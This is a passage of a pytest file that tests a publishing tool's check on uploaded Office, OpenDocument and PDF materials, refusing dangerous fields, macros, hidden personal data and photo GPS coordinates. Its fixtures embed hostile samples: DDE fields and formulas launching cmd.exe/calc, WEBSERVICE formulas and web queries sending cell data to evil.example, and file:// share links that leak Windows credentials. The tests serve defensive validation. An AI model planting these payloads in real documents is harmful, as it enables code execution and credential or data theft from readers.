    # Word's DDE field starts a program, split into runs as Word splits it.
    "word-dde-field": ("koe/ohje.docx", "docx", "word/document.xml", b"<w:body>", b"<w:p>" + _FIELD_BEGIN
                       + b'<w:r><w:instrText xml:space="preserve"> dde</w:instrText></w:r><w:r><w:instrText>AUTO '
                       b'c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r>' + _FIELD_END + b"</w:p>"),
    # A simple field that fetches a picture from an address when the document is opened.
    "word-includepicture": ("koe/ohje.docx", "docx", "word/document.xml", b"<w:body>",
                            b'<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "https://evil.example/seuranta.png" \\d \'>'
                            b"<w:r><w:t>k</w:t></w:r></w:fldSimple></w:p>"),
    "word-hyperlink-field-to-share": ("koe/ohje.docx", "docx", "word/document.xml", b"<w:body>",
                                      b'<w:p><w:fldSimple w:instr=\' HYPERLINK "file://evil.example/jako/x.docx" \'>'
                                      b"<w:r><w:t>k</w:t></w:r></w:fldSimple></w:p>"),
    "excel-dde-formula": ("koe/kysely.xlsx", "xlsx", "xl/worksheets/sheet1.xml", b"</is></c>",
                          b"""<c r="B1"><f>cmd|' /C calc'!A0</f><v>0</v></c>"""),
    "excel-webservice": ("koe/kysely.xlsx", "xlsx", "xl/worksheets/sheet1.xml", b"</is></c>",
                         b'<c r="B1"><f>_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)</f><v>0</v></c>'),
    "excel-macro-sheet": ("koe/kysely.xlsx", "xlsx", "[Content_Types].xml", b"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">",
                          b'<Override PartName="/xl/macrosheets/sheet2.xml" '
                          b'ContentType="application/vnd.ms-excel.macrosheet+xml"/>'),
    "powerpoint-program": ("koe/koulutus.pptx", "pptx", "ppt/slides/slide1.xml", b"<a:p><a:r>",
                           b'<a:rPr><a:hlinkClick r:id="" action="ppaction://program"/></a:rPr>'),
    # A hyperlink to a network share: opening it hands the reader's Windows credentials to the server.
    "word-link-to-share": ("koe/ohje.docx", "docx", "word/_rels/document.xml.rels", b'package/2006/relationships">',
                           f'<Relationship Id="rId99" Type="{_RELATIONSHIPS}/hyperlink" Target="file://evil.example/jako/x.docx" '
                           f'TargetMode="External"/>'.encode()),
    "opendocument-link-to-share": (_ODF_DOCUMENT, "odt", "content.xml", b"<office:text>",
                                   b'<text:p><text:a xlink:href="file://evil.example/jako/x.odt">x</text:a></text:p>'),
    "opendocument-linked-section": (_ODF_DOCUMENT, "odt", "content.xml", b"<office:text>",
                                    b'<text:section text:name="S"><text:section-source xlink:href="https://evil.example/x.odt"/>'
                                    b"</text:section>"),
    "opendocument-linked-picture": (_ODF_DOCUMENT, "odt", "content.xml", b"<office:text>",
                                    b'<text:p><draw:frame><draw:image xlink:href="https://evil.example/seuranta.png"/>'
                                    b"</draw:frame></text:p>"),
    # A web query Excel refreshes when the workbook opens.
    "excel-web-query": ("koe/kysely.xlsx", "xlsx", "xl/connections.xml", None,
                        b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" '
                        b'name="Kysely" type="4" refreshOnLoad="1"><webPr url="https://evil.example/kysely"/></connection>'
                        b"</connections>"),
    "opendocument-linked-range": ("koe/seuranta.ods", "ods", "content.xml", b"<table:table-row>",
                                  b'<table:table-cell><table:cell-range-source table:name="A" xlink:href="https://evil.example/x.ods" '
                                  b'table:last-column-spanned="1" table:last-row-spanned="1"/></table:table-cell>'),
    "opendocument-webservice": ("koe/seuranta.ods", "ods", "content.xml", b"<table:table-row>",
                                b'<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://evil.example/&quot;)"/>'),
}


@pytest.mark.parametrize("case", list(_RUNNING_OR_FETCHING))
def test_an_office_file_whose_field_or_formula_runs_a_program_or_fetches_is_refused(fixture_content, case):
    """What starts a program or fetches from the network without being a part or a relationship:
    Word's fields, a spreadsheet's formulas, Excel 4.0 macro sheets, a slide's click that runs a
    program, and OpenDocument's linked sections and pictures."""
    name, kind, part, before, added = _RUNNING_OR_FETCHING[case]
    data = _rezipped(kind, name, add={part: added}) if before is None else _rezipped(kind, name, _in_part(part, before, added))
    assert added in _part(data, part)
    (fixture_content / "aineistot" / name).write_bytes(data)
    problem = _one(_problems(fixture_content), "bad-material")
    assert f"roadmap/aineistot/{name}" in problem.message and "tallenna tiedosto uudelleen" in problem.message


def test_ordinary_fields_and_formulas_are_not_refused(fixture_content):
    """A page number, a hyperlink field, a sum and a sheet name with a bar in quotes pass, and so do
    links to web pages and to a place in the document."""
    docx = _rezipped("docx", "koe/ohje.docx", _in_part("word/document.xml", b"<w:body>", b"<w:p>" + _FIELD_BEGIN
                     + b"<w:r><w:instrText> PAGE </w:instrText></w:r>" + _FIELD_END + b"</w:p>"
                     b'<w:p><w:fldSimple w:instr=\' HYPERLINK "https://www.example.org/" \'><w:r><w:t>k</w:t></w:r></w:fldSimple></w:p>'
                     b'<w:p><w:fldSimple w:instr=\' HYPERLINK \\l "Otsikko" \'><w:r><w:t>k</w:t></w:r></w:fldSimple></w:p>'))
    xlsx = _rezipped("xlsx", "koe/kysely.xlsx", _in_part("xl/worksheets/sheet1.xml", b"</is></c>",
                     b"""<c r="B1"><f>SUM('Vastaukset | 2020'!A1:A3)&amp;"a|b"</f><v>0</v></c>"""))
    odt = _rezipped("odt", _ODF_DOCUMENT, _in_part("content.xml", b"<office:text>",
                    b'<text:p><text:a xlink:href="https://www.example.org/">x</text:a>'
                    b'<text:a xlink:href="#Otsikko">y</text:a></text:p>'))
    (fixture_content / "aineistot" / "koe" / "ohje.docx").write_bytes(docx)
    (fixture_content / "aineistot" / "koe" / "kysely.xlsx").write_bytes(xlsx)
    (fixture_content / "aineistot" / _ODF_DOCUMENT).write_bytes(odt)
    assert load_roadmap(fixture_content, fixture_content.parent).material_files["koe/kysely.xlsx"]


def _part(data: bytes, name: str) -> bytes:
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


@pytest.mark.parametrize("case", ["basic", "event"])
def test_an_opendocument_file_with_macros_is_refused(fixture_content, case):
    name = "koe/malli.odt"
    if case == "basic":
        data = _rezipped("odt", name, add={"Basic/Standard/Module1.xml": b'<script:module xmlns:script="urn:x">Sub Main</script:module>'})
    else:
        listener = (b'<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
                    b'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
                    b"</office:event-listeners>")
        data = _rezipped("odt", name, lambda part, data: data.replace(b"<office:text>", b"<office:text>" + listener, 1)
                         if part == "content.xml" else data)
    (fixture_content / "aineistot" / name).write_bytes(data)
    problem = _one(_problems(fixture_content), "bad-material")
    assert f"roadmap/aineistot/{name}" in problem.message and "makro" in problem.message


def test_an_office_part_in_another_encoding_is_read(fixture_content):
    """An XML part in UTF-16 is read in the encoding it declares, not skipped."""
    item = f'<?xml version="1.0" encoding="UTF-16"?><asiakas>Matti {HETU}</asiakas>'.encode("utf-16")
    (fixture_content / "aineistot" / "koe" / "ohje.docx").write_bytes(
        _rezipped("docx", "koe/ohje.docx", add={"customXml/item9.xml": item}))
    assert "roadmap/aineistot/koe/ohje.docx" in _one(_problems(fixture_content), "sensitive").message


@pytest.mark.parametrize("case", ["nested-document", "unknown-binary"])
def test_an_office_part_the_check_cannot_read_is_refused(fixture_content, case):
    """A spreadsheet embedded in a document, or any part that is neither text nor a known picture."""
    if case == "nested-document":
        part, data = "word/embeddings/Microsoft_Excel_Worksheet.xlsx", document_bytes("xlsx", [f"Asiakas {HETU}"])
    else:
        part, data = "word/tiedot.dat", b"\x00\x01\x02" + f"Asiakas {HETU}".encode("utf-16-le")[:9] + b"\x03"
    (fixture_content / "aineistot" / "koe" / "ohje.docx").write_bytes(_rezipped("docx", "koe/ohje.docx", add={part: data}))
    problem = _one(_problems(fixture_content), "bad-material")
    assert "roadmap/aineistot/koe/ohje.docx" in problem.message and part in problem.message


def test_the_fixtures_office_files_hold_no_part_that_is_refused():
    """The parts office programs write (thumbnails, printer settings, LibreOffice's folders) pass."""
    from tiekartta.model.materials import _office_unshown

    for name, (kind, lines) in DOCUMENTS.items():
        if kind not in ("pdf", "txt"):
            assert _office_unshown(document_bytes(kind, lines))[1] is None, name


@pytest.mark.parametrize("case", ["comment", "private-data", "form"])
def test_what_a_pdf_hides_outside_its_strings_is_checked(fixture_content, case):
    """A comment line and the data of a stream no page shows (here an application's private data
    named from the catalog's /PieceInfo, and a form no page draws) are published in the file too."""
    lines = DOCUMENTS["koe/malli.pdf"][1]
    if case == "comment":
        data = pdf_bytes(lines, comment=f"Poistettu: Matti {HETU}".encode())
    else:
        stream = (f"Asiakas {HETU}" if case == "private-data" else f"BT /F1 12 Tf (Asiakas {HETU}) Tj ET").encode()
        kind = b"" if case == "private-data" else b"/Type /XObject /Subtype /Form /BBox [0 0 10 10] "
        data = pdf_bytes(lines, catalog=b"/PieceInfo << /Muistio << /Private 6 0 R >> >> ",
                         extra=(b"<< " + kind + b"/Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",))
    (fixture_content / "aineistot" / "koe" / "malli.pdf").write_bytes(data)
    problem = _one(_problems(fixture_content), "sensitive")
    assert "roadmap/aineistot/koe/malli.pdf" in problem.message and HETU not in problem.message


@pytest.mark.parametrize("case", ["page-saved-again", "properties-saved-again", "listed-nowhere"])
def test_what_an_incremental_save_left_in_a_pdf_is_checked(fixture_content, case):
    """A PDF editor's save appends the changed objects and leaves the earlier ones in the file:
    the text taken out of a page, an earlier title. An object no cross-reference leads to is
    published in the file too."""
    lines = DOCUMENTS["koe/malli.pdf"][1]
    if case == "page-saved-again":
        data = pdf_saved_again(pdf_bytes([*lines, f"Asiakas {HETU}"]), {4: pdf_contents(lines)})
    elif case == "properties-saved-again":
        data = pdf_bytes(lines, catalog=b"/Info 6 0 R ", extra=(f"<< /Title (Asiakas {HETU}) >>".encode(),))
        data = pdf_saved_again(data, {6: b"<< /Title (Malli) >>"})
    else:
        data = pdf_saved_again(pdf_bytes(lines), {9: f"<< /Muistio (Asiakas {HETU}) >>".encode()}, unlisted=(9,))
    (fixture_content / "aineistot" / "koe" / "malli.pdf").write_bytes(data)
    problem = _one(_problems(fixture_content), "sensitive")
    assert "roadmap/aineistot/koe/malli.pdf" in problem.message and HETU not in problem.message
    assert "aiemmin tallennettu versio" in problem.message  # the editor is told why the pages do not show it


@pytest.mark.parametrize("hidden", [HETU.encode(), b"040 1234567 Td", b"+358401234567 Td"])
def test_what_a_pages_contents_hold_besides_their_text_is_checked(fixture_content, hidden):
    """Bytes of a page's contents that draw nothing (not its text, not a coordinate) are published in the file."""
    lines = DOCUMENTS["koe/malli.pdf"][1]
    data = pdf_bytes(lines, contents=pdf_contents(lines, after=b" " + hidden))
    (fixture_content / "aineistot" / "koe" / "malli.pdf").write_bytes(data)
    problem = _one(_problems(fixture_content), "sensitive")
    assert "roadmap/aineistot/koe/malli.pdf" in problem.message


def test_the_numbers_of_a_drawing_no_page_shows_are_not_taken_for_a_phone_number(fixture_content):
    """A page's former contents that an editor left listed in the file are read as a drawing (its
    strings), not as text: "(ASN.1)-334(lib)" is kerning, not a number."""
    lines = DOCUMENTS["koe/malli.pdf"][1]
    drawing = b"BT /F1 10.9 Tf 196.166 541.651 Td [(Abstract)-333(Syntax)-334(\\050ASN.1\\051)-334(lib)1(rary)] TJ ET"
    data = pdf_bytes(lines, extra=(b"<< /Length " + str(len(drawing)).encode() + b" >>\nstream\n" + drawing + b"\nendstream",))
    (fixture_content / "aineistot" / "koe" / "malli.pdf").write_bytes(data)
    load_roadmap(fixture_content, fixture_content.parent)


def test_a_pdf_saved_again_without_personal_data_is_published_with_its_latest_text(fixture_content, tmp_path):
    """An incremental save is how PDF editors save: the file passes, and its page reads as saved last."""
    from tiekartta.model.materials import read_material

    lines = DOCUMENTS["koe/malli.pdf"][1]
    path = fixture_content / "aineistot" / "koe" / "malli.pdf"
    path.write_bytes(pdf_saved_again(pdf_bytes(["Vanha luonnos"]), {4: pdf_contents(lines)}))
    load_roadmap(fixture_content, fixture_content.parent)
    material = read_material(path, "koe/malli.pdf", tmp_path)
    assert lines[0] in material.text and "Vanha luonnos" not in material.text


@pytest.mark.parametrize("case", ["office", "pdf"])
def test_a_picture_inside_a_document_that_shows_where_it_was_taken_is_refused(fixture_content, case):
    """A photo's GPS coordinates are published inside the document that holds it."""
    picture = located_picture("JPEG")
    if case == "pdf":
        name = "koe/malli.pdf"
        data = pdf_bytes(DOCUMENTS[name][1], extra=(
            b"<< /Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
            b"/Filter /DCTDecode /Length " + str(len(picture)).encode() + b" >>\nstream\n" + picture + b"\nendstream",))
    else:
        name = "koe/ohje.docx"
        data = _rezipped("docx", name, add={"word/media/image9.jpeg": picture})
    (fixture_content / "aineistot" / name).write_bytes(data)
    problem = _one(_problems(fixture_content), "bad-material")
    assert f"roadmap/aineistot/{name}" in problem.message and "GPS-koordinaatit" in problem.message


@pytest.mark.parametrize("case", ["office-png", "office-jpeg-tail", "pdf-jpeg", "office-gif-tail", "office-gif-application"])
def test_the_metadata_of_a_picture_inside_a_document_is_checked(fixture_content, case):
    """A picture's text (a PNG's text chunk, a JPEG's comment, a GIF's application extension) and
    data after its end are published in the document."""
    import io

    from PIL import Image, PngImagePlugin

    out = io.BytesIO()
    if case == "office-png":
        info = PngImagePlugin.PngInfo()
        info.add_text("Description", f"Asiakas {HETU}")
        Image.new("RGB", (2, 2)).save(out, format="PNG", pnginfo=info)
    elif case.startswith("office-gif"):
        Image.new("P", (2, 2)).save(out, format="GIF")
        gif = out.getvalue()
        if case == "office-gif-tail":
            gif += f"Asiakas {HETU}".encode()
        else:  # an application extension of a program's own, before the trailer (";")
            text = f"Asiakas {HETU}".encode()
            gif = gif[:-1] + b"\x21\xff\x0bOHJELMA 1.0" + bytes([len(text)]) + text + b"\x00;"
        out = io.BytesIO(gif)
    else:
        Image.new("RGB", (2, 2)).save(out, format="JPEG", comment=f"Asiakas {HETU}" if case == "pdf-jpeg" else "")
        if case == "office-jpeg-tail":
            out.write(f"Asiakas {HETU}".encode())
    if case == "pdf-jpeg":
        name = "koe/malli.pdf"
        picture = out.getvalue()
        data = pdf_bytes(DOCUMENTS[name][1], extra=(
            b"<< /Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
            b"/Filter /DCTDecode /Length " + str(len(picture)).encode() + b" >>\nstream\n" + picture + b"\nendstream",))
    else:
        name = "koe/ohje.docx"
        ending = "png" if case == "office-png" else "gif" if case.startswith("office-gif") else "jpeg"
        data = _rezipped("docx", name, add={f"word/media/image9.{ending}": out.getvalue()})
    (fixture_content / "aineistot" / name).write_bytes(data)
    assert f"roadmap/aineistot/{name}" in _one(_problems(fixture_content), "sensitive").message


def test_the_editor_guide_states_the_materials_limits():
    """docs/opas/index.md: the allowed types, the largest file and how much of a document's text
    the page (and so the search) carries, as the model has them."""
    guide = " ".join((REPO / "docs" / "opas" / "index.md").read_text(encoding="utf-8").split())
    assert f"enintään {file_size(MAX_BYTES)}" in guide
    assert f"{PAGE_TEXT_MAX_CHARS:,}".replace(",", " ") + " ensimmäistä merkkiä" in guide
    for key, form in FORMATS.items():
        assert (f"(.{key})" if key == "txt" else form.label) in guide, key
